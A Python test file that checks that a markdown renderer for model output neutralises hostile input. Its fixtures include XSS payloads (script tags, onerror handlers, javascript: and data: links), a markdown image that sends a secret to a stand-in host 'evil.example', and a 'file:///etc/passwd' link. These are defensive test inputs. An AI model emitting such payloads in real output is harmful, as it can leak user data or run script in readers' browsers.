"""Model text is rendered inert: no raw HTML, no remote fetches on render, links only for safe schemes."""

from __future__ import annotations

import pytest
from display_safety import assert_inert, tags_of

from workbench.display.markdown import render_html

HOSTILE = (
    "Hello <script>alert(1)</script> and <img src=x onerror=alert(2)>\n\n"
    "![exfil](https://evil.example/leak?d=secret) ![local](data:image/png;base64,AAAA)\n\n"
    "[click](javascript:alert(3)) [JS](JaVaScRiPt:alert(4)) [data](data:text/html,<b>x</b>) "
    "[ok](https://example.com/a?b=1&c=2) [mail](mailto:a@example.com) [rel](../secret)\n\n"
    "<div onclick=x>block html</div>\n\n<iframe src=https://evil.example></iframe>\n"
)


def test_hostile_markdown_is_inert() -> None:
    assert_inert(render_html(HOSTILE))


def test_raw_html_shows_as_text() -> None:
    out = render_html(HOSTILE)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "&lt;div onclick=x&gt;" in out


def test_remote_image_becomes_a_link_placeholder() -> None:
    out = render_html("![the chart](https://evil.example/x.png)")
    assert "[image: the chart]" in out
    (tag, attrs), *_ = tags_of(out)[1:]
    assert tag == "a" and attrs["href"] == "https://evil.example/x.png"


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[a](https://example.com)", "https://example.com"),
        ("[a](mailto:x@y.z)", "mailto:x@y.z"),
        ("<http://a.b>", "http://a.b"),
    ],
)
def test_safe_links_are_kept(source: str, href: str) -> None:
    links = [attrs for tag, attrs in tags_of(render_html(source)) if tag == "a"]
    assert [attrs["href"] for attrs in links] == [href]
    assert "noopener" in (links[0]["rel"] or "")


@pytest.mark.parametrize(
    "target", ["javascript:alert(1)", "vbscript:x", "data:text/html,x", "file:///etc/passwd", "relative/path"]
)
def test_other_links_stay_text(target: str) -> None:
    out = render_html(f"[label]({target})")
    assert not [tag for tag, _ in tags_of(out) if tag == "a"]
    assert "label" in out


def test_markdown_features() -> None:
    out = render_html("# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~ **bold** `code`\n\n```py\nx < 1\n```\n")
    expected = ("<h1>Title</h1>", "<table>", "<s>gone</s>", "<strong>bold</strong>", "<code>code</code>", "x &lt; 1")
    for fragment in expected:
        assert fragment in out
